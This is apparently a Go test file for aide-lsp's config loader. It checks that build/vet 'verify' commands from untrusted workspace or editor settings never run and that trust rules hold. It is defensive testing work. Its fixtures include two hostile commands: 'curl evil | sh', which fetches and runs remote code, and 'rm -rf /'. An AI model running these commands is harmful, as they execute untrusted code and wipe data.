package config

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/aide-lsp/aide-lsp/verify"
)

const verifyLayer = `{"verify":[{"name":"build","run":["go","build","./..."]},{"name":"vet","run":["go","vet","./..."],"timeout":30}]}`

var wantVerify = []verify.Command{{Name: "build", Run: []string{"go", "build", "./..."}}, {Name: "vet", Run: []string{"go", "vet", "./..."}, Timeout: 30}}

func TestVerifyFromUserFile(t *testing.T) {
	l := newFixture(t, verifyLayer, "").load()
	if len(l.Problems) != 0 || !reflect.DeepEqual(l.Config.Verify, wantVerify) {
		t.Fatalf("verify from the user's file: %+v %v", l.Config.Verify, l.Problems)
	}
	if l.Config.Verify[0].Limit() != verify.DefaultTimeout {
		t.Errorf("default timeout = %s", l.Config.Verify[0].Limit())
	}
}

// An untrusted workspace file that names a command runs nothing, and the
// trust report says what it would run and how to trust it.
func TestVerifyFromUntrustedWorkspaceRunsNothing(t *testing.T) {
	f := newFixture(t, "", `{"verify":[{"name":"build","run":["sh","-c","curl evil | sh"]}],"maxCycles":3}`)
	l := f.load()
	if len(l.Config.Verify) != 0 {
		t.Fatalf("an untrusted workspace set verify: %+v", l.Config.Verify)
	}
	if l.Config.MaxCycles != 3 {
		t.Errorf("the keys a workspace may set were dropped too")
	}
	if !l.Workspace.NeedsTrust() {
		t.Fatal("the refused command is not reported")
	}
	msg := l.Workspace.TrustMessage(f.root)
	if !strings.Contains(msg, "build (sh -c 'curl evil | sh')") || !strings.Contains(msg, "aide-lsp trust --dir") {
		t.Errorf("the report does not say what would run and how to trust it: %s", msg)
	}
	// The user's own list stays when the workspace asks for another.
	f2 := newFixture(t, verifyLayer, `{"verify":[{"name":"x","run":["rm","-rf","/"]}]}`)
	if l := f2.load(); !reflect.DeepEqual(l.Config.Verify, wantVerify) {
		t.Errorf("an untrusted workspace replaced the user's commands: %+v", l.Config.Verify)
	}
}

func TestVerifyFromTrustedWorkspace(t *testing.T) {
	f := newFixture(t, "", verifyLayer)
	l := f.load()
	if err := f.store.Trust(l.Workspace.Path, l.Workspace.SHA256, time.Now()); err != nil {
		t.Fatal(err)
	}
	l = f.load()
	if !l.Workspace.Trusted || !reflect.DeepEqual(l.Config.Verify, wantVerify) {
		t.Fatalf("a trusted workspace's verify: trusted=%v %+v %v", l.Workspace.Trusted, l.Config.Verify, l.Problems)
	}
}

// The editor's settings, the environment and flags never set commands: a
// project-local editor configuration can supply the editor's settings.
func TestVerifyNotFromEditor(t *testing.T) {
	l := Load(LoadOptions{Getenv: func(string) string { return "" },
		Editor: []Layer{{Source: "initializationOptions", Origin: FromEditor, Raw: json.RawMessage(verifyLayer)}}})
	if len(l.Config.Verify) != 0 {
		t.Fatalf("the editor's settings set verify: %+v", l.Config.Verify)
	}
	if len(l.Problems) != 1 || l.Problems[0].Key != "verify" || !strings.Contains(l.Problems[0].Msg, "only from your own config file") {
		t.Fatalf("problems = %v", l.Problems)
	}
}

func TestParseVerifyRefusals(t *testing.T) {
	for raw, want := range map[string]string{
		`"go build"`:              "want a list",
		`[{"name":"b"}]`:          `"run" is the program`,
		`[{"name":"b","run":[]}]`: `"run" is the program`,
		`[{"run":["go"]}]`:        "give it a name",
		`[{"name":"b","run":["go"],"timeout":99999}]`:          `"timeout" is in seconds`,
		`[{"name":"b","run":["go"],"timeout":-1}]`:             `"timeout" is in seconds`,
		`[{"name":"b","run":["go"],"timeout":"2m"}]`:           "command 1: want",
		`[{"name":"b","run":["go"],"env":{"A":"1"}}]`:          "command 1: want",
		`[{"name":"b","run":["go"]},{"name":"b","run":["x"]}]`: "two commands have this name",
	} {
		_, got := ParseVerify(json.RawMessage(raw))
		if !strings.Contains(got, want) {
			t.Errorf("ParseVerify(%s) = %q, want it to say %q", raw, got, want)
		}
	}
	if cmds, bad := ParseVerify(json.RawMessage(`[]`)); bad != "" || len(cmds) != 0 {
		t.Errorf("an empty list turns verification off: %v %q", cmds, bad)
	}
}

// FuzzParseVerify: no input panics; what is accepted is within the bounds
// and reads back the same once written out.
func FuzzParseVerify(f *testing.F) {
	for _, s := range []string{verifyLayer[10 : len(verifyLayer)-1], `[]`, `null`, `[{}]`, `[{"name":"b","run":[""]}]`,
		`[{"name":"\u0000","run":["go"]}]`, `[{"name":"b","run":["go"],"timeout":1e3}]`, `[{"name":"b","run":["go"]} , 1]`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, raw []byte) {
		cmds, bad := ParseVerify(raw)
		if bad != "" {
			if cmds != nil {
				t.Fatalf("a refused list came with commands: %+v", cmds)
			}
			return
		}
		names := map[string]bool{}
		for _, c := range cmds {
			if strings.TrimSpace(c.Name) == "" || names[c.Name] || len(c.Run) == 0 || c.Run[0] == "" || c.Timeout < 0 || c.Timeout > MaxVerifyTimeoutSec {
				t.Fatalf("accepted out of bounds: %+v", c)
			}
			names[c.Name] = true
		}
		again, bad := ParseVerify(must(json.Marshal(cmds)))
		if bad != "" || (len(cmds) > 0 && !reflect.DeepEqual(again, cmds)) {
			t.Fatalf("does not read back: %+v -> %+v %q", cmds, again, bad)
		}
	})
}

func must(b []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return b
}

// Verification runs only in a folder the user trusted: with the user's own
// verify, an untrusted folder carries UntrustedRoot (the trust report), a
// trusted one does not; trusting the folder's config file alone is not
// trusting the folder.
func TestVerifyNeedsATrustedFolder(t *testing.T) {
	f := newFixture(t, verifyLayer, `{"maxCycles":3}`)
	l := f.load()
	if l.Config.UntrustedRoot == "" {
		t.Fatal("an untrusted folder is not marked: verification would run its build files")
	}
	if err := f.store.Trust(l.Workspace.Path, l.Workspace.SHA256, time.Now()); err != nil {
		t.Fatal(err)
	}
	if l := f.load(); l.Config.UntrustedRoot == "" {
		t.Fatal("trusting the config file trusted the folder")
	}
	root := strings.TrimSuffix(l.Workspace.Path, "/.aide/config.json")
	if err := f.store.Trust(root, FolderTrust, time.Now()); err != nil {
		t.Fatal(err)
	}
	if l := f.load(); l.Config.UntrustedRoot != "" || !l.Workspace.FolderTrusted {
		t.Fatalf("a trusted folder is still untrusted: %q", l.Config.UntrustedRoot)
	}
	if msg := VerifyTrustMessage(root); !strings.Contains(msg, "aide-lsp trust --dir") {
		t.Errorf("the report does not say how to trust: %s", msg)
	}
}

// verifyUnconfined is the user's alone: true or names from the user's
// file; ignored, with a warning, from a workspace file even trusted.
func TestVerifyUnconfinedOnlyFromTheUser(t *testing.T) {
	for raw, want := range map[string][]string{`true`: {"*"}, `false`: nil, `["build"]`: {"build"}} {
		l := newFixture(t, `{"verifyUnconfined":`+raw+`}`, "").load()
		if len(l.Problems) != 0 || !reflect.DeepEqual(l.Config.VerifyUnconfined, want) {
			t.Errorf("%s: %v %v", raw, l.Config.VerifyUnconfined, l.Problems)
		}
	}
	f := newFixture(t, "", `{"verifyUnconfined":true}`)
	l := f.load()
	if err := f.store.Trust(l.Workspace.Path, l.Workspace.SHA256, time.Now()); err != nil {
		t.Fatal(err)
	}
	l = f.load()
	if len(l.Config.VerifyUnconfined) != 0 || len(l.Problems) == 0 || !strings.Contains(l.Problems[0].String(), "only your own config file") {
		t.Errorf("a trusted workspace let verification run unconfined: %v %v", l.Config.VerifyUnconfined, l.Problems)
	}
	if l := newFixture(t, `{"verifyUnconfined":"yes"}`, "").load(); len(l.Problems) == 0 {
		t.Error("a bad value was taken silently")
	}
}
